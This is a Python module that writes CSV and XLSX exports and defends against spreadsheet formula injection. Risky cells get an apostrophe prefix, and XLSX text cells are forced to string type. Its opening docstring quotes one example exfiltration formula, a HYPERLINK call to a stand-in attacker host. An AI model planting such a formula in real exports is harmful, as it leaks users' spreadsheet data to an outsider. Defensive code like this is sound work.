"""The one writer of tables that people open in a spreadsheet: CSV, Excel-CSV and XLSX.

Values come from imports and forms, so any of them may be written by an attacker. A
spreadsheet runs a cell that starts with ``= + - @`` (or a tab or carriage return before
one) as a formula — ``=HYPERLINK("http://evil.example/?"&A1)`` sends the neighbouring
cells away when clicked (CSV injection, OWASP). Every cell therefore goes through
``neutralise``: such text gets a leading apostrophe, which spreadsheets show as text and
never evaluate. Numbers, and text made only of digits and the signs of numbers and phone
numbers (``-3,5``, ``+32 81 22 33 44``), cannot call anything and are left as they are.
In XLSX every text is written as a string cell, so nothing there is a formula at all.

No other module writes CSV or XLSX (``tests/tabular/test_export.py`` reads the sources).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Signs, digits, separators of numbers, dates and phone numbers: nothing a formula needs.
INERT = re.compile(r"[-+0-9 .,/()\u00a0\u202f]*")
BOM = "\ufeff"


def _runs_as_formula(value: str) -> bool:
    """Whether *value*, once its leading apostrophes are set aside, would run."""
    core = value.lstrip("'")
    return core.startswith(FORMULA_STARTS) and not INERT.fullmatch(core)


def neutralise(value: Any) -> Any:
    """*value* as a spreadsheet may show it without evaluating it.

    One apostrophe is added to a text that would run, and to a text that already starts
    with apostrophes before such a text, so that ``restore`` gives back every value
    exactly (our own exports import back unchanged).
    """
    if isinstance(value, str) and _runs_as_formula(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The value ``neutralise`` was given, from what it wrote."""
    return value[1:] if value.startswith("'") and _runs_as_formula(value) else value


def write_csv(handle: IO[str], rows: Iterable[Sequence[Any]], excel: bool = True) -> None:
    """*rows* into an open text file (``newline=""``); ``excel`` gives ``;`` separators.

    Lines end with CRLF (RFC 4180), so a carriage return inside a value is quoted too. The
    caller opens the file with ``encoding="utf-8-sig"`` for Excel.
    """
    writer = csv.writer(handle, delimiter=";" if excel else ",", lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise(value) for value in row])


def csv_text(rows: Iterable[Sequence[Any]], excel: bool = False) -> str:
    buffer = io.StringIO()
    write_csv(buffer, rows, excel)
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]], excel: bool = True) -> bytes:
    """CSV as Belgian Excel opens it without an import dialog (``;``, UTF-8 with a BOM),
    or with ``excel=False`` plain comma-separated UTF-8."""
    return ((BOM if excel else "") + csv_text(rows, excel)).encode("utf-8")


def xlsx_bytes(title: str, rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet named *title*, its first row frozen as the header; texts are strings."""
    # openpyxl is imported here, by the few requests that ask for a workbook, rather than by
    # every process that imports an export module.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    sheet.freeze_panes = "A2"
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # never "f": a leading "=" stays text
            cells.append(cell)
        sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
